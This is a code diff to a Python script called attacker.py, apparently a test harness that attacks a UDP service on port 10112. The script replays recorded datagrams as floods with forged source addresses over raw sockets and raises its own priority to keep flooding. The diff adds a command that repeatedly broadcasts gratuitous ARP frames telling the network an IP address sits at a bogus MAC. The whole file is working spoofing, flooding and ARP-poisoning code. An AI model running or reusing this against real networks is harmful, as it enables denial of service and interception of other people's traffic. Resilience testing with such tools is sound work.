@@ -3,9 +3,10 @@
     attacker.py record FILE                      what this machine itself sends to the port, until it is ended
     attacker.py send FILE SECONDS RATE SOURCE>TARGET...
                                                  datagrams of FILE in turn, to each target as if the source had sent them
+    attacker.py claim ADDRESS SECONDS RATE       gratuitous ARP: this address is at a strange MAC
 
 A file holds records: nanoseconds of the wall clock, length, datagram. `record` prints a line once it listens, `send` a line
-with the packets to each target and the seconds it took. SECONDS 0: each of FILE once. They are spread evenly: that is harder to bear than bursts.
+with the packets to each target and the seconds it took. SECONDS 0: each of FILE once. Packets are spread evenly: that is harder to bear than bursts.
 """
 
 import ctypes
@@ -14,10 +15,11 @@ import socket
 import struct
 import sys
 import time
-from collections.abc import Iterable
+from collections.abc import Iterable, Iterator
 from pathlib import Path
 
 PORT = 10112
+STRANGE_MAC = bytes.fromhex("020000000bad")
 RECORD = struct.Struct("!QH")
 UDP = struct.Struct("!HHHH")
 ALL_PROTOCOLS = 3  # ETH_P_ALL: the only one that sees what leaves
@@ -86,13 +88,28 @@ def send(path: Path, seconds: float, rate: float, ways: list[str]) -> None:
     rounds = [[(packet(one, source, target), (target, 0)) for source, target in ends] for _, one in read(path)]
     link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     link.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
+    for sent in paced(seconds, len(rounds), rate):
+        for data, target in rounds[sent % len(rounds)]:
+            link.sendto(data, target)
+
+
+def claim(address: str, seconds: float, rate: float) -> None:
+    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    link.bind(("eth0", 0))
+    head = b"\xff" * 6 + STRANGE_MAC + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2)
+    frame = head + (STRANGE_MAC + socket.inet_aton(address)) * 2
+    for _ in paced(seconds, 1, rate):
+        link.send(frame)
+
+
+def paced(seconds: float, once: int, rate: float) -> Iterator[int]:
+    """Yield numbers when the next one is due, for so long or so many; then say how it went."""
     os.nice(-10)  # to be a flood on a busy host too
     began = time.monotonic()
     sent, passed = 0, 0.0
-    while passed < seconds if seconds else sent < len(rounds):
+    while passed < seconds if seconds else sent < once:
         if sent <= passed * rate:
-            for data, target in rounds[sent % len(rounds)]:
-                link.sendto(data, target)
+            yield sent
             sent += 1
         passed = time.monotonic() - began
     print(sent, passed, flush=True)
@@ -102,6 +119,8 @@ def main() -> None:
     what, file, *rest = sys.argv[1:]
     if what == "record":
         record(Path(file))
+    elif what == "claim":
+        claim(file, float(rest[0]), float(rest[1]))
     else:
         seconds, rate, *ways = rest
         send(Path(file), float(seconds), float(rate), ways)
